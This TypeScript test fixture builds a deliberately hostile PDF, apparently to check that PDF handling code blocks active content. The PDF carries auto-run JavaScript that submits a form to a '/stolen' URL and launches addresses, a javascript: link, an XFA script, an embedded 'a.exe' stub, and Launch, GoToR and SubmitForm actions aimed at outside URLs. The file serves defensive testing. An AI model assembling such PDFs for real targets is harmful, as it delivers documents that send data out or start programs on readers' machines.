import { writePdf } from '../unit/files/writePdf.ts';

/** A PDF that tries, when it is opened, to run scripts, to start programs, to send forms and to open addresses. */
export function hostilePdf(): string {
  const script =
    'app.alert("hostile"); this.submitForm({cURL: "https://www.unodc.org/stolen"}); app.launchURL("https://www.unodc.org/launched");';
  const content = 'BT /F1 12 Tf 72 700 Td (A paper that is hostile to its readers.) Tj ET';
  const form =
    '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script>app.alert(1)</script></event></subform></template></xdp:xdp>';
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /AcroForm << /Fields [8 0 R] /NeedAppearances true /XFA 12 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >> /AF [9 0 R] >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /AA << /O 6 0 R >> /Annots [7 0 R 8 0 R 10 0 R 11 0 R] >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Type /Action /S /JavaScript /JS (${script.replace(/[()]/g, '\\$&')}) /Next << /S /URI /URI (https://www.unodc.org/opened) >> >>`,
    '<< /Type /Annot /Subtype /Link /Rect [72 690 300 720] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>',
    '<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [72 600 300 620] /AA << /K 6 0 R /F 6 0 R /C 6 0 R >> >>',
    '<< /Type /Filespec /F (a.exe) /EF << /F 13 0 R >> /AFRelationship /Data >>',
    '<< /Type /Annot /Subtype /Link /Rect [72 640 300 660] /A << /S /Launch /F (https://www.unodc.org/launched.exe) /NewWindow true >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /AA << /PO << /S /GoToR /F (https://www.unodc.org/other.pdf) >> /PV << /S /SubmitForm /F (https://www.unodc.org/sent) >> >> >>',
    `<< /Length ${form.length} >>\nstream\n${form}\nendstream`,
    '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
  ];
  return writePdf(objects);
}
